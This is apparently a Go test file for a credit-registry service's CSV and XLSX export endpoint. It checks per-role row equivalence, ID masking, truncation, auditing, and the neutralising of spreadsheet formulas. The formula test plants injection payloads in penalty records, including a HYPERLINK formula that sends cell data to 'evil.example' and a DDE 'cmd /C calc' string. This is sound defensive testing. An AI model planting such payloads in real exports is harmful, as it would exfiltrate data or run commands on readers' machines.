package graph_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/creditgraph/creditgraph/storage/storagetest"
)

// exportAs fetches /export as the named demo token.
func exportAs(t *testing.T, env *testEnv, token string, params url.Values) (*http.Response, []byte) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, env.srv.URL+"/export?"+params.Encode(), nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+env.secrets[token])
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res, body
}

// Exports are what the caller can read through the API (the oracle: the same connection and
// fields queried through /query, page by page), masks included, for each role: CSV with a BOM
// and XLSX with the same rows; filtered like the list; bounded, saying when cut; audited; bad
// parameters refused by name — on both engines.
func TestExportsAreWhatTheCallerCanRead(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
		env := newEnv(t, e, 40)
		cases := []struct{ connection, fields, where string }{
			{"marketEntities", "uscc,name,riskTier,legalRepresentative.name", `{"cityCode":"320500"}`},
			{"naturalPersons", "name,idNumber,gender", ""},
			{"administrativePenalties", "decisionNo,sector,severity,publicityDeadline,entity.name", ""},
			{"listEntries", "", ""},
		}
		for _, who := range []string{"", "demo-market-clerk", "demo-labour-clerk", "demo-auditor-all"} {
			for _, c := range cases {
				params := url.Values{"connection": {c.connection}, "format": {"csv"}}
				if c.fields != "" {
					params.Set("fields", c.fields)
				}
				if c.where != "" {
					params.Set("where", c.where)
				}
				res, body := exportAs(t, env, who, params)
				if res.StatusCode != http.StatusOK || !bytes.HasPrefix(body, []byte("\uFEFF")) {
					t.Fatalf("%q export %s: %d %.300s", who, c.connection, res.StatusCode, body)
				}
				rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				header := rows[0]
				want := apiRows(t, env.as(who), c.connection, header, c.where)
				if got := fmt.Sprint(rows[1:]); got != fmt.Sprint(want) {
					t.Errorf("%q export of %s differs from what /query gives:\n got %.400s\nwant %.400s", who, c.connection, got, fmt.Sprint(want))
				}
				if res.Trailer.Get("X-Export-Rows") != fmt.Sprint(len(rows)-1) || res.Trailer.Get("X-Export-Truncated") != "false" {
					t.Errorf("%q %s trailers %v", who, c.connection, res.Trailer)
				}
				if c.connection == "naturalPersons" && who == "demo-market-clerk" {
					if len(rows) < 2 || !strings.Contains(rows[1][1], "*") {
						t.Errorf("ID numbers are not masked in the clerk's export: %v", rows[:min(2, len(rows))])
					}
				}
			}
		}
		// XLSX: the same rows.
		params := url.Values{"connection": {"marketEntities"}, "format": {"xlsx"}, "fields": {"uscc,name"}}
		res, body := exportAs(t, env, "demo-market-clerk", params)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("xlsx: %d %.300s", res.StatusCode, body)
		}
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := f.GetRows("Sheet1")
		if err != nil {
			t.Fatal(err)
		}
		if want := apiRows(t, env.as("demo-market-clerk"), "marketEntities", []string{"uscc", "name"}, ""); fmt.Sprint(sheet[1:]) != fmt.Sprint(want) ||
			len(want) != 40 || !strings.Contains(sheet[1][1], "公司") && !strings.Contains(sheet[1][1], "店") && !strings.Contains(sheet[1][1], "厂") {
			t.Errorf("xlsx rows %.300v, want %.300v", sheet[1:], want)
		}
		// Bounded, and says so.
		res, body = exportAs(t, env, "demo-market-clerk", url.Values{"connection": {"marketEntities"}, "fields": {"uscc"}, "limit": {"3"}})
		if n := strings.Count(string(body), "\n"); n != 4 || res.Trailer.Get("X-Export-Truncated") != "true" {
			t.Errorf("limit 3: %d lines, trailers %v", n, res.Trailer)
		}
		// Audited, with the row count.
		if n := env.count("audit_logs", "kind = 'EXPORT' AND token_name = 'demo-market-clerk' AND operation LIKE 'export marketEntities xlsx 40 rows%'"); n != 1 {
			t.Errorf("%d audit entries for the xlsx export", n)
		}
		for _, bad := range []struct{ params url.Values }{
			{url.Values{"connection": {"nope"}}}, {url.Values{"connection": {"marketEntities"}, "format": {"pdf"}}},
			{url.Values{"connection": {"marketEntities"}, "fields": {"bogus"}}}, {url.Values{"connection": {"marketEntities"}, "where": {"{"}}},
			{url.Values{"connection": {"marketEntities"}, "limit": {"0"}}},
		} {
			res, body := exportAs(t, env, "demo-market-clerk", bad.params)
			if res.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "BAD_USER_INPUT") {
				t.Errorf("%v: %d %s", bad.params, res.StatusCode, body)
			}
		}
	})
}

// apiRows reads a connection through /query with the given column paths, as the caller.
func apiRows(t *testing.T, as *testEnv, connection string, columns []string, where string) [][]string {
	t.Helper()
	var sel strings.Builder
	for _, c := range columns {
		parts := strings.Split(c, ".")
		sel.WriteString(strings.Join(parts, " { ") + strings.Repeat(" }", len(parts)-1) + " ")
	}
	q := fmt.Sprintf(`{ c: %s(first: 1000) { edges { node { %s } } } }`, connection, sel.String())
	var vars map[string]any
	if where != "" { // the filtered cases are marketEntities'
		q = fmt.Sprintf(`query($w: MarketEntityWhereInput) { c: %s(first: 1000, where: $w) { edges { node { %s } } } }`, connection, sel.String())
		var w map[string]any
		if err := json.Unmarshal([]byte(where), &w); err != nil {
			t.Fatal(err)
		}
		vars = map[string]any{"w": w}
	}
	var out struct {
		C struct {
			Edges []struct{ Node map[string]any }
		}
	}
	as.mustData(q, vars, &out)
	var rows [][]string
	for _, e := range out.C.Edges {
		row := make([]string, len(columns))
		for i, c := range columns {
			var v any = e.Node
			for _, p := range strings.Split(c, ".") {
				if m, ok := v.(map[string]any); ok {
					v = m[p]
				} else {
					v = nil
				}
			}
			if v != nil {
				row[i] = fmt.Sprint(v)
			}
		}
		rows = append(rows, row)
	}
	return rows
}

// Text written through the API that a spreadsheet would run as a formula — here a penalty's facts
// and legal basis, written by a department's clerk, the lowest writer — reaches a reader's export
// as text: apostrophe-prefixed in CSV, a string cell (no formula) in XLSX, on both engines.
// server's TestCSVCellsNeverRunAsFormulas holds every cell of the CSV writer to the same.
func TestExportsNeverCarryFormulas(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
		env := newEnv(t, e, 5)
		texts := map[string]string{ // decision number's source → the planted text
			"F-1": `=HYPERLINK("http://evil.example/?d="&B2,"查看")`, "F-2": `+1+1`, "F-3": `-2+3`, "F-4": `@SUM(1,1)`,
			"F-5": `-cmd|' /C calc'!A0`, "F-6": `事实清楚`,
		}
		for src, text := range texts {
			in := penaltyInput(env, "market-320500", src)
			in["in"].(map[string]any)["violationFacts"] = text
			in["in"].(map[string]any)["legalBasis"] = text
			env.as("demo-market-clerk").mustData(createPenaltyQ, in, nil)
		}
		params := url.Values{"connection": {"administrativePenalties"}, "fields": {"decisionNo,violationFacts,legalBasis"}}
		planted := func(decisionNo string) (string, bool) {
			src, ok := strings.CutPrefix(decisionNo, "测罚〔2025〕")
			text, planted := texts[src]
			return text, ok && planted
		}
		params.Set("format", "csv")
		res, body := exportAs(t, env, "demo-market-supervisor", params)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("csv: %d %.300s", res.StatusCode, body)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, row := range rows[1:] {
			text, ok := planted(row[0])
			if !ok {
				continue
			}
			seen++
			want := text
			if strings.ContainsAny(text[:1], "=+-@") {
				want = "'" + text
			}
			if row[1] != want || row[2] != want {
				t.Errorf("csv row %q: facts %q, legal basis %q, want both %q", row[0], row[1], row[2], want)
			}
		}
		if seen != len(texts) {
			t.Fatalf("the csv export holds %d of the %d planted penalties: %q", seen, len(texts), rows)
		}
		params.Set("format", "xlsx")
		res, body = exportAs(t, env, "demo-market-supervisor", params)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("xlsx: %d %.300s", res.StatusCode, body)
		}
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := f.GetRows("Sheet1")
		if err != nil {
			t.Fatal(err)
		}
		seen = 0
		for i, row := range sheet[1:] {
			text, ok := planted(row[0])
			if !ok {
				continue
			}
			seen++
			for col, name := range []string{"B", "C"} {
				axis := fmt.Sprintf("%s%d", name, i+2)
				formula, err := f.GetCellFormula("Sheet1", axis)
				if err != nil || formula != "" || row[col+1] != text {
					t.Errorf("xlsx %s: %q with formula %q (%v), want the text %q and no formula", axis, row[col+1], formula, err, text)
				}
				if typ, _ := f.GetCellType("Sheet1", axis); typ == excelize.CellTypeFormula {
					t.Errorf("xlsx %s is a formula cell", axis)
				}
			}
		}
		if seen != len(texts) {
			t.Errorf("the xlsx export holds %d of the %d planted penalties", seen, len(texts))
		}
	})
}
